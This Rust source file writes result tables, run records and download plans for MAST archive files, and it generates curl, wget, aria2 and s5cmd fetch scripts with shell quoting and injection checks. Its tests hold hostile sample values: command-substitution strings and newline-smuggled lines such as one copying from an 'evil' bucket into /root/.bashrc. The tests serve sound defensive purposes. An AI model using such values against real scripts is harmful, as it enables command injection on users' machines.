//! Outputs: result tables and the run record, written atomically.
//!
//! Every file is written to a temporary file beside it and renamed, so an
//! interrupted run leaves either the previous file or the complete new one.
//! Table files are deterministic; the run record (`run.json`) says what ran,
//! with which parameters, and how each step went.

use crate::exec::{Outcome, StepReport};
use crate::table::io::{self, Format};
use crate::table::{Table, ops};
use crate::template::Context;
use crate::util::{sha256_hex, write_atomic};
use crate::validate::{Manifest, ParamValue, check_relative_path};
use indexmap::IndexMap;
use serde::Serialize;
use std::path::{Path, PathBuf};
use thiserror::Error;

/// Errors writing outputs.
#[derive(Debug, Error)]
pub enum OutputError {
    #[error("output `{path}`: {message}")]
    Bad { path: String, message: String },
    #[error("writing {path}: {source}")]
    Write {
        path: String,
        #[source]
        source: std::io::Error,
    },
}

/// One written file.
#[derive(Debug, Clone, Serialize)]
pub struct Written {
    pub path: String,
    pub from: String,
    pub format: &'static str,
    pub rows: usize,
    pub sha256: String,
}

/// Render a table in a format into memory.
pub fn encode(table: &Table, format: Format, name: &str) -> Result<Vec<u8>, io::IoError> {
    let mut buf = Vec::new();
    io::write(table, format, name, &mut buf)?;
    Ok(buf)
}

/// Write the outputs whose step produced a table. Returns what was written,
/// and errors for outputs that could not be.
pub fn write_outputs(
    m: &Manifest,
    outcome: &Outcome,
    ctx: &Context,
    out_dir: &Path,
) -> (Vec<Written>, Vec<OutputError>) {
    let mut written = Vec::new();
    let mut errors = Vec::new();
    for o in &m.outputs {
        let Some(table) = &outcome.tables[o.from] else {
            continue;
        };
        let rel = match ctx.render(&o.path) {
            Ok(p) => p,
            Err(e) => {
                errors.push(OutputError::Bad {
                    path: o.path.clone(),
                    message: e,
                });
                continue;
            }
        };
        if let Err(why) = check_relative_path(&rel) {
            errors.push(OutputError::Bad {
                path: rel.clone(),
                message: format!("path {why}"),
            });
            continue;
        }
        if o.download_plan {
            match write_plan(table, &rel, out_dir, &m.steps[o.from].name) {
                Ok(w) => written.extend(w),
                Err(e) => errors.push(e),
            }
            continue;
        }
        let projected;
        let t: &Table = match &o.columns {
            Some(cols) => match ops::select(table, cols) {
                Ok(p) => {
                    projected = p;
                    &projected
                }
                Err(e) => {
                    errors.push(OutputError::Bad {
                        path: rel.clone(),
                        message: e.to_string(),
                    });
                    continue;
                }
            },
            None => table,
        };
        let name = &m.steps[o.from].name;
        let bytes = match encode(t, o.format, name) {
            Ok(b) => b,
            Err(e) => {
                errors.push(OutputError::Bad {
                    path: rel.clone(),
                    message: e.to_string(),
                });
                continue;
            }
        };
        let full = out_dir.join(&rel);
        if let Err(e) = write_atomic(&full, |w| w.write_all(&bytes)) {
            errors.push(OutputError::Write {
                path: full.display().to_string(),
                source: e,
            });
            continue;
        }
        written.push(Written {
            path: rel,
            from: name.clone(),
            format: o.format.name(),
            rows: t.num_rows(),
            sha256: sha256_hex(&bytes),
        });
    }
    (written, errors)
}

/// The run record written as `run.json` beside the outputs.
#[derive(Debug, Serialize)]
pub struct RunRecord<'a> {
    pub mastflow_version: &'static str,
    pub manifest: ManifestInfo<'a>,
    pub params: &'a IndexMap<String, ParamValue>,
    /// Names of the environment variables the manifest allowed (never their values).
    pub env: Vec<&'a str>,
    pub started_at: String,
    pub duration_ms: u64,
    pub status: &'static str,
    pub exit_code: i32,
    pub steps: &'a [StepReport],
    pub outputs: &'a [Written],
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub output_errors: Vec<String>,
    /// Files in the output folder that an earlier run wrote and this one did
    /// not (an output removed from the manifest), left in place; listed until
    /// they are deleted.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub stale_outputs: Vec<String>,
}

#[derive(Debug, Serialize)]
pub struct ManifestInfo<'a> {
    pub name: &'a str,
    pub path: &'a str,
    pub sha256: &'a str,
}

/// Write `run.json` into `out_dir`.
pub fn write_run_record(out_dir: &Path, record: &RunRecord<'_>) -> Result<PathBuf, OutputError> {
    let path = out_dir.join("run.json");
    let mut text = serde_json::to_vec_pretty(record).expect("run record serialises");
    text.push(b'\n');
    write_atomic(&path, |w| w.write_all(&text)).map_err(|e| OutputError::Write {
        path: path.display().to_string(),
        source: e,
    })?;
    Ok(path)
}

/// Current UTC time as ISO-8601 (for the run record only; never in tables).
pub fn now_iso() -> String {
    let now = time::OffsetDateTime::now_utc();
    now.format(&time::format_description::well_known::Rfc3339)
        .unwrap_or_default()
}

/// `plan.json`: a versioned download plan (schema: `schemas/download-plan.schema.json`).
#[derive(Debug, Serialize, schemars::JsonSchema)]
pub struct PlanDoc {
    /// Plan format version.
    pub version: u32,
    /// The program that wrote it (no timestamp: plans are reproducible).
    pub generator: String,
    pub totals: PlanTotals,
    /// Files, sorted by local path.
    pub files: Vec<PlanFile>,
}

/// Counts and bytes, overall and by productType and access.
#[derive(Debug, Default, Serialize, schemars::JsonSchema)]
pub struct PlanTotals {
    pub files: u64,
    pub bytes: u64,
    pub by_product_type: std::collections::BTreeMap<String, Tally>,
    pub by_access: std::collections::BTreeMap<String, Tally>,
}

#[derive(Debug, Default, Serialize, schemars::JsonSchema)]
pub struct Tally {
    pub files: u64,
    pub bytes: u64,
}

/// One file to fetch.
#[derive(Debug, Serialize, schemars::JsonSchema)]
pub struct PlanFile {
    #[serde(rename = "dataURI")]
    pub data_uri: String,
    #[serde(rename = "productFilename")]
    pub product_filename: String,
    /// Local path, relative to the plan's directory; sanitised.
    pub path: String,
    /// HTTPS download URL.
    pub url: String,
    /// `s3://stpubdata/...` for public files in the cloud.
    pub cloud_uri: Option<String>,
    /// Bytes, when MAST gives it.
    pub size: Option<u64>,
    /// Checksum, when MAST gives one.
    pub checksum: Option<String>,
    /// `PUBLIC` or `EXCLUSIVE_ACCESS` (needs the MAST token).
    pub access: String,
    #[serde(rename = "productType")]
    pub product_type: Option<String>,
    /// Observations (obsid / obs_id) whose product lists reference the file.
    pub observations: Vec<String>,
}

/// The plan's JSON Schema, as `schemas/download-plan.schema.json` stores it.
pub fn plan_schema_text() -> String {
    let schema = schemars::generate::SchemaSettings::draft07()
        .into_generator()
        .into_root_schema_for::<PlanDoc>();
    let mut s = serde_json::to_string_pretty(&schema).expect("schema serialises");
    s.push('\n');
    s
}

/// Read a plan table (from a `download_plan` step) into the document.
pub fn plan_doc(t: &Table) -> Result<PlanDoc, OutputError> {
    let bad = |m: String| OutputError::Bad {
        path: "download plan".into(),
        message: m,
    };
    let col = |n: &str| t.column(n).map_err(|e| bad(e.to_string()));
    let (uri, file, path, url, cloud, size, sum, access, ptype, obs) = (
        col("dataURI")?,
        col("productFilename")?,
        col("path")?,
        col("url")?,
        col("cloud_uri")?,
        col("size")?,
        col("checksum")?,
        col("access")?,
        col("productType")?,
        col("observations")?,
    );
    let s = |c: &crate::table::Column, i: usize| c.get(i).as_str().map(str::to_string);
    let mut totals = PlanTotals::default();
    let mut files = Vec::with_capacity(t.num_rows());
    for i in 0..t.num_rows() {
        let bytes = match size.get(i) {
            crate::table::ValueRef::Int(n) if n >= 0 => Some(n as u64),
            _ => None,
        };
        let f = PlanFile {
            data_uri: s(uri, i).unwrap_or_default(),
            product_filename: s(file, i).unwrap_or_default(),
            path: s(path, i).unwrap_or_default(),
            url: s(url, i).unwrap_or_default(),
            cloud_uri: s(cloud, i),
            size: bytes,
            checksum: s(sum, i),
            access: s(access, i).unwrap_or_else(|| "PUBLIC".into()),
            product_type: s(ptype, i),
            observations: s(obs, i)
                .map(|o| o.split(';').map(str::to_string).collect())
                .unwrap_or_default(),
        };
        let b = f.size.unwrap_or(0);
        totals.files += 1;
        totals.bytes += b;
        for (map, key) in [
            (
                &mut totals.by_product_type,
                f.product_type.clone().unwrap_or_else(|| "UNKNOWN".into()),
            ),
            (&mut totals.by_access, f.access.clone()),
        ] {
            let e = map.entry(key).or_default();
            e.files += 1;
            e.bytes += b;
        }
        files.push(f);
    }
    Ok(PlanDoc {
        version: crate::services::download::PLAN_VERSION,
        generator: concat!("mastflow ", env!("CARGO_PKG_VERSION")).into(),
        totals,
        files,
    })
}

/// The scripts and listings written beside `plan.json`: (suffix, content).
pub fn plan_scripts(
    doc: &PlanDoc,
    table: &Table,
) -> Result<Vec<(&'static str, Vec<u8>)>, OutputError> {
    let header = format!(
        "# Written by {} from plan.json: {} files, {} bytes.\n",
        doc.generator, doc.totals.files, doc.totals.bytes
    );
    let mut curl = String::from("#!/usr/bin/env bash\n");
    curl.push_str(&header);
    curl.push_str(
        "# Resumable (curl -C -), retried, written to .part then renamed; complete files are skipped.\n\
         # Exclusive-access files need MAST_API_TOKEN; it is sent only for them, and curl does not\n\
         # forward it across a redirect to another host.\n\
         set -euo pipefail\ncd \"$(dirname \"$0\")\"\n\
         fetch() {\n  local url=$1 path=$2 exclusive=$3\n  [ -f \"$path\" ] && return 0\n  mkdir -p \"$(dirname \"$path\")\"\n  local auth=()\n  if [ \"$exclusive\" = 1 ]; then\n    auth=(-H \"Authorization: token ${MAST_API_TOKEN:?set MAST_API_TOKEN to fetch exclusive-access files}\")\n  fi\n  curl --fail --location --silent --show-error --retry 5 --retry-delay 2 -C - \"${auth[@]}\" -o \"$path.part\" \"$url\"\n  mv \"$path.part\" \"$path\"\n}\n",
    );
    let mut wget = String::from("#!/usr/bin/env bash\n");
    wget.push_str(&header);
    wget.push_str("set -euo pipefail\ncd \"$(dirname \"$0\")\"\n");
    let mut aria = header.clone();
    aria.push_str("# aria2c --input-file=THIS --continue=true; exclusive-access files are listed commented out:\n# aria2c cannot read the token from the environment (add --header yourself).\n");
    let mut s5 = header.clone();
    s5.push_str(
        "# s5cmd --no-sign-request run THIS  (public files in the stpubdata bucket only)\n",
    );
    for f in &doc.files {
        check_plan_entry(f)?;
        let exclusive = f.access != "PUBLIC";
        let (u, p, dir) = (
            sh_quote(&f.url),
            sh_quote(&f.path),
            sh_quote(parent(&f.path)),
        );
        curl.push_str(&format!("fetch {u} {p} {}\n", u8::from(exclusive)));
        if exclusive {
            wget.push_str(&format!("mkdir -p {dir} && wget --continue --tries=5 --header=\"Authorization: token ${{MAST_API_TOKEN:?}}\" -O {p} {u}\n"));
            aria.push_str(&format!("# {}\n#   out={}\n", f.url, f.path));
        } else {
            wget.push_str(&format!(
                "mkdir -p {dir} && wget --continue --tries=5 -O {p} {u}\n"
            ));
            aria.push_str(&format!("{}\n  out={}\n", f.url, f.path));
            if let Some(c) = &f.cloud_uri {
                s5.push_str(&format!("cp {} {p}\n", sh_quote(c)));
            }
        }
    }
    let csv =
        encode(table, crate::table::io::Format::Csv, "plan").map_err(|e| OutputError::Bad {
            path: "plan.csv".into(),
            message: e.to_string(),
        })?;
    Ok(vec![
        ("curl.sh", curl.into_bytes()),
        ("wget.sh", wget.into_bytes()),
        ("aria2.txt", aria.into_bytes()),
        ("s5cmd.txt", s5.into_bytes()),
        ("csv", csv),
    ])
}

/// One shell word (bash, and s5cmd's `run`, which splits lines as a shell
/// does): single-quoted, a `'` written as `'\''`. Nothing inside is expanded.
fn sh_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

/// A plan entry whose URL, path or cloud URI holds a control character (a
/// newline would add a line to the aria2c and s5cmd listings) or whose URLs
/// hold whitespace is refused, naming the value (docs/security.md).
fn check_plan_entry(f: &PlanFile) -> Result<(), OutputError> {
    let cloud = f.cloud_uri.as_deref().unwrap_or("");
    for (what, v, no_space) in [
        ("url", f.url.as_str(), true),
        ("path", f.path.as_str(), false),
        ("cloud_uri", cloud, true),
    ] {
        let bad = v
            .chars()
            .any(|c| c.is_control() || (no_space && c.is_whitespace()));
        if bad {
            return Err(OutputError::Bad {
                path: "plan.json".into(),
                message: format!(
                    "product `{}`: the server's {what} {:?} holds a control character or space, which could add commands to the download scripts; it was refused and no plan file was written (report it to archive@stsci.edu)",
                    f.data_uri.escape_debug(),
                    v.escape_debug().to_string()
                ),
            });
        }
    }
    Ok(())
}

fn parent(p: &str) -> &str {
    p.rsplit_once('/').map_or(".", |(d, _)| d)
}

/// Write plan.json and its scripts; `rel` is the plan.json path.
fn write_plan(
    table: &Table,
    rel: &str,
    out_dir: &Path,
    from: &str,
) -> Result<Vec<Written>, OutputError> {
    let doc = plan_doc(table)?;
    let mut json = serde_json::to_vec_pretty(&doc).expect("plan serialises");
    json.push(b'\n');
    let stem = rel.strip_suffix(".json").unwrap_or(rel);
    let mut files: Vec<(String, Vec<u8>, &'static str)> =
        vec![(rel.to_string(), json, "download-plan")];
    for (suffix, bytes) in plan_scripts(&doc, table)? {
        files.push((format!("{stem}.{suffix}"), bytes, "download-plan"));
    }
    let mut written = Vec::new();
    for (path, bytes, format) in files {
        let full = out_dir.join(&path);
        write_atomic(&full, |w| w.write_all(&bytes)).map_err(|e| OutputError::Write {
            path: full.display().to_string(),
            source: e,
        })?;
        #[cfg(unix)]
        if path.ends_with(".sh") {
            use std::os::unix::fs::PermissionsExt;
            let _ = std::fs::set_permissions(&full, std::fs::Permissions::from_mode(0o755));
        }
        written.push(Written {
            path,
            from: from.to_string(),
            format,
            rows: table.num_rows(),
            sha256: sha256_hex(&bytes),
        });
    }
    Ok(written)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn entry(url: &str, path: &str, cloud: Option<&str>) -> PlanFile {
        PlanFile {
            data_uri: "mast:JWST/product/x.fits".into(),
            product_filename: "x.fits".into(),
            path: path.into(),
            url: url.into(),
            cloud_uri: cloud.map(str::to_string),
            size: Some(1),
            checksum: None,
            access: "PUBLIC".into(),
            product_type: None,
            observations: vec![],
        }
    }

    /// A hostile value through `sh_quote` reaches bash as one literal word:
    /// nothing runs (issue 12 item 1).
    #[test]
    fn quoted_values_are_never_expanded_by_bash() {
        let dir = tempfile::tempdir().unwrap();
        let marker = dir.path().join("pwned");
        let hostile = format!(
            "http://h/'$(touch {m})'`touch {m}`\"$(touch {m})\";touch {m}",
            m = marker.display()
        );
        let out = std::process::Command::new("bash")
            .arg("-c")
            .arg(format!("printf %s {}", sh_quote(&hostile)))
            .output()
            .unwrap();
        assert!(out.status.success());
        assert_eq!(String::from_utf8_lossy(&out.stdout), hostile);
        assert!(!marker.exists(), "the quoted value ran a command");
    }

    /// A newline from the server would add a command to the s5cmd and aria2c
    /// listings: refused, naming the value (issue 12 item 2).
    #[test]
    fn control_characters_in_plan_entries_are_refused() {
        let ok = entry(
            "https://mast.stsci.edu/x",
            "jw/x.fits",
            Some("s3://stpubdata/jwst/x.fits"),
        );
        assert!(check_plan_entry(&ok).is_ok());
        let bad = [
            entry(
                "https://mast.stsci.edu/x",
                "jw/x.fits",
                Some("s3://stpubdata/x\ncp s3://evil/p /root/.bashrc"),
            ),
            entry(
                "https://mast.stsci.edu/x\r\nhttp://evil/",
                "jw/x.fits",
                None,
            ),
            entry("https://mast.stsci.edu/x y", "jw/x.fits", None),
            entry(
                "https://mast.stsci.edu/x",
                "jw/x\u{1b}]0;title\u{7}.fits",
                None,
            ),
        ];
        for b in bad {
            let e = check_plan_entry(&b).unwrap_err().to_string();
            assert!(e.contains("refused"), "{e}");
            assert!(
                !e.contains('\n') && !e.contains('\u{1b}'),
                "escaped in the message: {e}"
            );
        }
    }
}
